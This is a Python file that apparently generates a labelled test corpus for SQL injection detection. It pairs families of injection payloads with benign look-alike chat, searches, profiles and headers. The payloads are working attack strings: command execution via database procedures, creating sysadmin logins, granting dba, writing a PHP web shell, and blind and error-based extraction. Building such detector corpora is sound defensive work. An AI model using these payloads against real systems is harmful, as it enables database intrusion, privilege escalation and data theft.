    "> c:\\inetpub\\wwwroot\\o.txt';--",
    "1;exec sp_execute_external_script @language=N'Python',@script=N'import os;os.system(\"whoami\")'--",
    "1;exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER','ObjectName'--",
    "1;exec xp_servicecontrol 'start','schedule'--",
    "1;exec sp_addlogin 'ctf','P@ssw0rd';exec sp_addsrvrolemember 'ctf','sysadmin'--",
    "1;exec sp_makewebtask 'c:\\inetpub\\wwwroot\\x.html','select * from flags'--",
    "1;exec master..sp_password null,'ctf','sa'--",
    "1;exec sp_linkedservers--",
    "1;exec('select * from openquery(\"LINKED\",''select @@version'')')--",
    # PostgreSQL superuser: a C function from libc
    "1;create or replace function system(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "language c strict;select system('id')--",
    "1;do $$begin perform pg_sleep(1); execute 'copy (select 1) to program ''id''';end$$--",
    "1;create extension if not exists plpython3u;create function p() returns text as $$import os;"
    "return os.popen('id').read()$$ language plpython3u;select p()--",
    # MySQL UDF shell (lib_mysqludf_sys) after writing the library to the plugin dir
    "1';create function sys_eval returns string soname 'lib_mysqludf_sys.so';#",
    "1' union select sys_eval('id'),2#",
    "1';select sys_exec('cat /flag > /tmp/f');#",
    "1';call mysql.rds_kill(1);#",
    # Oracle
    "' and (select dbms_java.runjava('oracle/aurora/util/Wrapper /bin/sh -c id') from dual) is not null--",
    "';begin dbms_scheduler.create_job(job_name=>'x',job_type=>'executable',job_action=>'/bin/id',enabled=>true);"
    "end;--",
    "' and (select dbms_xmlquery.newcontext('declare pragma autonomous_transaction; begin execute immediate "
    "''grant dba to public''; commit; end;') from dual) is not null--",
    "1;exec dbms_export_extension.get_domain_index_tables('a','b','DBMS_OUTPUT\".PUT(:P1);EXECUTE IMMEDIATE "
    "''grant dba to public'';END;--','SYS',0,'1',0)--",
    # SQLite with load_extension enabled
    "' union select load_extension('/tmp/evil.so','sqlite3_extension_init'),2--",
    "1;select writefile('/var/www/html/s.php','<?php system($_GET[0]);');--",
]

# having/group-by/order-by probing: count the columns, or inject into a sort/limit parameter
ORDER: list[Entry] = [
    # MySQL, count the columns before the union
    "1' order by 3#",
    "1' order by 4-- -",
    "1'order/**/by/**/5#",
    "1' group by 1,2,3#",
    "-1' group by 1,2,3,4 with rollup#",
    # MySQL, the password check compares against a NULL rollup row (the 'with rollup' login)
    "' or 1=1 group by password with rollup limit 1 offset 1#",
    # SQL Server, 'having 1=1' names the first column in the error, then each next one
    "' having 1=1--",
    "' group by users.id having 1=1--",
    "' group by users.id,users.username having 1=1--",
    # MySQL, the sort parameter itself is injected (ORDER BY sink, no quotes around it)
    "if(1=1,id,username)",
    "(case when (select substr(flag,1,1) from flag)='f' then id else username end)",
    "id,(select 1 from (select sleep(3))x)",
    "id desc,if(ascii(mid(user(),1,1))>100,sleep(2),0)",
    "(select 1 union select 2)",
    "rand(ascii(substr((select flag from flag),1,1))>102)",
    "updatexml(1,concat(0x7e,(select flag from flag)),1)",
    "1,extractvalue(1,concat(0x7e,database()))",
    "(select case when (1=1) then 1 else 1*(select 1 union select 2) end)",
    # MySQL 5.x LIMIT sink: procedure analyse takes an expression
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "0,1 procedure analyse(extractvalue(1,concat(0x7e,(select flag from flag))),1)",
    "1 into @a,@b",
    # PostgreSQL ORDER BY sink
    "(case when (substr(current_user,1,1)='p') then 1 else 1/0 end)",
    "1,(select cast(version() as int))",
    # SQLite ORDER BY sink
    "(case when (select substr(flag,1,1) from flags)='f' then 1 else abs(-9223372036854775808) end)",
    "(select 1 from sqlite_master having count(*)>1)",
    # SQL Server ORDER BY sink
    "(select case when (1=1) then 1 else 1/0 end)",
    "1;waitfor delay '0:0:4'--",
    # Oracle ORDER BY sink
    "(case when (select substr(user,1,1) from dual)='S' then 1 else to_number('x') end)",
]

# like/between/in operators: comparisons without '=' or '<' '>'
OPERATORS: list[Entry] = [
    # MySQL, '=' and '<' '>' banned: like, between, in, regexp
    "' or username like 'adm%'#",
    "' or password like binary 'f%'#",
    "1' and (select flag from flag) like 'flag{a%'#",
    "1' and (select flag from flag) like 0x666c61677b6125#",
    "1' and ascii(substr((select flag from flag),1,1)) between 101 and 103#",
    "1' and (select flag from flag) between 'flag{a' and 'flag{b'#",
    "' or id in (1)#",
    "' or 1 in (select 1)#",
    "1' and ascii(mid(database(),1,1)) in (99,100)#",
    "1' and 1 not in (select 0)#",
    "1' and (select flag from flag) regexp '^flag\\\\{a'#",
    "1' and (select flag from flag) rlike '^flag'#",
    "1' and (select flag from flag) regexp binary '^f'#",
    "1' and find_in_set('f',(select substr(flag,1,1) from flag))#",
    "1' and strcmp((select substr(flag,1,1) from flag),'f') in (0)#",
    "'||username like'%admin%'#",
    # MySQL, 'like' banned: sound-alike and set membership
    "1' and (select substr(flag,1,1) from flag) sounds like 'f'#",
    "1' and mid((select flag from flag),1,1) in ('f')#",
    # SQLite
    "' or username glob 'adm*'--",
    "' and (select flag from flags) glob 'flag{a*'--",
    "' and (select flag from flags) like 'flag%' escape '\\'--",
    # PostgreSQL
    "' or username similar to 'adm%'--",
    "' and (select flag from flags limit 1) ~ '^flag\\{a'--",
    "' and (select flag from flags limit 1) ilike 'FLAG%'--",
    # SQL Server
    "' and (select top 1 flag from flags) like 'flag{[a-f]%'--",
    "' or 1 in (select top 1 1 from flags)--",
    # Oracle
    "' and (select user from dual) like 'S%'--",
    "' and regexp_like((select user from dual),'^S')--",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# bracket-operator pairs written as `name=value`, sent unquoted
RAW_KV_SUBS = {"nosql-injection"}

# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["q", "id", "username", "password", "sort", "order", "filter", "name", "search"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\"
    raw_places = ("form", "rs-param-name")
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios about CTFs, training labs and SQL work, searches,
# admin-panel notes, links to write-ups and docs, profiles, uploads, ordinary headers)
CHAT = [
    # CTF team chat
    "we finished 14th in the spring CTF, the web category carried us",
    "who wants to pair on the SQL injection challenges this weekend? the scoreboard opens Saturday 10:00 UTC",
    "write-up for the login challenge is in the team drive, it was a classic union select with three columns",
    "the flag format this year is flag{...}, don't forget the braces when you submit",
    "pwn category was brutal, web was mostly SQLi and one SSTI",
    "note to self: the time-based blind one needed sleep(3) because the server was already slow",
    "reminder that the CTF infra is out of scope, only attack the challenge hosts",
    "our write-up on the handler trick got linked from the organisers' blog!",
    "the NoSQL challenge was MongoDB with a $ne operator in the login, took us ten minutes",
    "I keep mixing up extractvalue and updatexml, both just give you an XPath error with 32 chars",
    "hint for the new folks: information_schema is your friend, read the MySQL docs on it",
    "team meeting moved to Thursday, bring your notes on the union-select challenges",
    # training labs and security work
    "the internal security training has a SQL injection lab now, sign-ups close Friday",
    "the pentest report flagged an order by parameter on the legacy reports page, fix is in review",
    "we switched the search endpoint to parameterized queries, no more string concatenation",
    "the WAF blocked a user whose company is literally called Union Select Ltd, can someone check",
    "OWASP top 10 session for new hires on Monday, injection is still number three",
    "reminder: never build SQL with f-strings, use the ORM or bound parameters",
    "sqlmap found nothing on staging, which is what we wanted",
    "pentesters asked for a test account with the admin role, please create one in staging only",
    "the bug bounty report about the sort parameter was a duplicate, closing it",
    "xp_cmdshell is disabled on every SQL Server instance, verified this morning",
    # SQL in ordinary engineering chat
    "can someone review my migration? it adds an index on users(email) and drops the old column",
    "select count(*) from users where created_at > now() - interval 1 day says 412 signups",
    "the report query uses group by team_id having count(*) > 5, is that right for the dashboard?",
    "order by last_login desc is slow without the index, adding it now",
    "the nightly job runs pg_dump at 02:00 then uploads to the bucket",
    "postgres 16 upgrade is done, pg_sleep in the healthcheck was removed",
    "MySQL 8 dropped the query cache, that explains the benchmark numbers",
    "the ORM generates a like '%term%' for search, we should move to full text",
    "anyone know if SQLite supports right join yet? apparently since 3.39",
    "stored procedures in the old billing DB are being rewritten in Python",
    "the union of both lists is in the sheet, duplicates removed",
    "between 9 and 5 I'm on support, after that ping the on-call",
    "the where clause was missing a parenthesis, so the or matched everything",
    "MongoDB query uses $in with the team ids, no $where anywhere",
    "we store dates as ISO strings in SQLite, so order by works lexically",
    "the DBA says information_schema queries are fine in the migration check",
    "the export has a hex column for the token hash, that's expected",
    "char(36) for uuids is fine in MySQL, binary(16) would be smaller",
    "concat_ws is nicer than concat when a field can be null",
    "substring of the email before the @ is the default username",
    "the admin panel search supports 'name:ana' and 'team:infra' filters",
    "sleep schedule is broken after the release week, taking Friday off",
    "drop table in the migration was intentional, the table was empty since 2022",
    "the waitfor in the SQL Server job was for the replica to catch up",
    "please don't run update users set ... without a where in prod again",
    "the query planner chose a seq scan, vacuum analyze fixed it",
    # support and product
    "customer says the directory search returns nobody for O'Brien, the apostrophe is fine in our tests",
    "the import failed because the CSV had a semicolon delimiter, re-exported with commas",
    "user asked why their name shows as 'admin' in the audit log, it was a service account",
    "login loop on Safari was a cookie issue, fixed in 2.4.1",
    "someone searched for 1=1 in the directory, probably a curious employee, nothing to worry about",
    "profile bio limit is 280 characters now",
    "support macro for password resets updated, link to the new help page",
    "the slack command /directory find ana works again after the token refresh",
    # bios
    "CTF player, web category. Mostly SQL injection and template bugs. Team: null_byte_bakers",
    "Database engineer. Postgres, MySQL, a bit of SQL Server. Ask me about indexes.",
    "Security trainer. I run the injection labs and the secure coding course.",
    "Backend dev, Python and Go. I write migrations and occasionally break them.",
    "Data analyst. Group by, having, window functions, repeat.",
    "Pentester, OSCP. Opinions about order by parameters.",
    "Capture the flag organiser for the university club, web and crypto challenges",
    "DBA on call this week, page me for replication lag or locks",
    "Learning SQL one select at a time",
    "MongoDB certified developer, aggregation pipelines are my jam",
]

SEARCHES = [
    "ana", "o'brien", "union", "select", "Union Station", "admin", "dba", "sql", "sqlite", "postgres",
    "mysql team", "ctf", "flag", "order", "group", "Mary-Ann", "d'angelo", "between", "like", "sleep",
    "benchmark", "having", "or", "and", "null", "true", "1", "' ", "security training", "xp", "hex",
    "char", "concat", "mongo", "where", "schema", "information", "procedure", "exec", "waitfor",
]

URLS = [
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://dev.mysql.com/doc/refman/8.0/en/information-schema.html",
    "https://dev.mysql.com/doc/refman/8.0/en/xml-functions.html",
    "https://dev.mysql.com/doc/refman/8.0/en/comments.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://www.postgresql.org/docs/current/sql-copy.html",
    "https://www.sqlite.org/lang_select.html",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://www.mongodb.com/docs/manual/reference/operator/query/where/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://ctftime.org/event/2200",
    "https://ctftime.org/writeup/38112",
    "https://github.com/sqlmapproject/sqlmap/wiki/Usage",
    "https://portswigger.net/web-security/sql-injection/union-attacks",
    "https://portswigger.net/web-security/sql-injection/blind",
    "https://nvd.nist.gov/vuln/detail/CVE-2023-34362",
    "https://blog.example.com/2024/03/our-first-ctf-write-up-union-select",
    "https://docs.example.com/admin/search#filters",
]

PROSE = [
    "SQL injection training lab - room 4B",
    "CTF write-up review: union select and order by challenges",
    "select all users in team infra",
    "users created between March and May",
    "find people like Ana or Anna",
    "group by department for the quarterly report",
    "accounts with role admin",
    "O'Reilly, Sean",
    "D'Souza",
    "Union Pacific contractors",
    "order history export",
    "drop-in session attendees",
    "sleep study volunteers",
    "benchmark team",
    "procedure review committee",
    "flag for follow-up",
    "hex editor license holders",
    "char limit on bios",
    "null island team offsite",
    "information security team",
    "schema migration owners",
    "stored procedure owners (billing DB)",
    "users where last login is older than 90 days",
    "exec team",
    "wait for delay notifications",
    "concat names for the badge printer",
    "1 = 1 meeting attendees",
    "true north office",
    "having trouble logging in",
    "Mongo DB working group",
    "like-minded readers club",
    "in-office Tuesdays",
    "between teams rotation",
    "'quoted' names import",
    "admin -- temporary access list",
    "#ctf-team channel members",
    "dba on-call rota",
    "sql review guild",
    "left/right seating plan",
    "char siu lunch club",
]

PROFILES = [
    ("Ana Select", "Rua Augusta 12, Lisbon"),
    ("Union Street Dental", "Union St 45, Aberdeen"),
    ("Sean O'Brien", "Grafton St 3, Dublin"),
    ("Priya D'Souza", "MG Road 88, Bengaluru"),
    ("Mike Group", "Order Lane 7, Leeds"),
    ("Flag & Pole Ltd", "Harbour Rd 9, Plymouth"),
    ("Benchmark Analytics", "Tech Park 2, Eindhoven"),
    ("Sleepwell Mattresses", "Bedford Ave 100, Brooklyn"),
    ("Having Fun Toys", "Market Sq 4, Kraków"),
    ("Dr. Null", "Zero St 0, Nullarbor"),
    ("Between Books", "Old Town 5, Tallinn"),
    ("Like Minds Coaching", "Queen St 21, Auckland"),
    ("Char Grill House", "King St 77, Toronto"),
    ("Hex Studio", "Canal 14, Amsterdam"),
    ("Procedure Medical Supply", "Wellness Blvd 3, Austin"),
    ("Mongo's Tacos", "Calle 8, Miami"),
    ("Information Desk Services", "Central Station, Zürich"),
    ("Select Motors", "Ring Road 1, Manchester"),
    ("Exec Suites", "Tower 3, Singapore"),
    ("Capture The Flag Club", "Campus 2, Lausanne"),
]

UPLOAD_NAMES = [
    "users-2024-06.csv", "team photo.jpg", "ctf-writeup-union-select.pdf", "sqli-lab-handout.pdf",
    "schema.sql", "migration_0042_add_index.sql", "orders export (June).csv", "flag-design.png",
    "O'Brien-contract.pdf", "pg_dump-2024-06-01.tar.gz", "mongo-export.json", "report_group_by_team.xlsx",
    "stored-procedures-inventory.xlsx", "benchmark-results.csv", "sleep-study-consent.pdf",
    "information-security-policy.pdf", "owasp-top10-slides.pptx", "admin-guide.pdf", "select-committee.docx",
    "between-rotations.ics",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "PostmanRuntime/7.39.0"),
    ("User-Agent", "Go-http-client/1.1"),
    ("Referer", "https://app.example.com/admin/users?sort=last_login&order=desc"),
    ("Referer", "https://ctftime.org/event/2200/tasks/"),
    ("Referer", "https://portswigger.net/web-security/sql-injection"),
    ("Referer", "https://www.google.com/search?q=mysql+group+by+having+example"),
    ("Referer", "https://stackoverflow.com/questions/4712037/what-is-parameterized-query"),
    ("Referer", "https://app.example.com/admin/users/search?q=o%27brien"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "3c1f0a9e-5b7d-4e2a-9f61-0d8b2a4c7e15"),
    ("Accept-Language", "en-GB,en;q=0.9,de;q=0.7"),
    ("Cookie", "session=abc123; sort=name; order=asc"),
    ("Cookie", "session=abc123; last_search=union%20street; tz=Europe%2FLondon"),
    ("Cookie", "session=abc123; filter=team%3Ainfra; page_size=50"),
    ("If-None-Match", "W/\"5f3a-18c0e3b2\""),
    ("X-Forwarded-For", "198.51.100.23"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
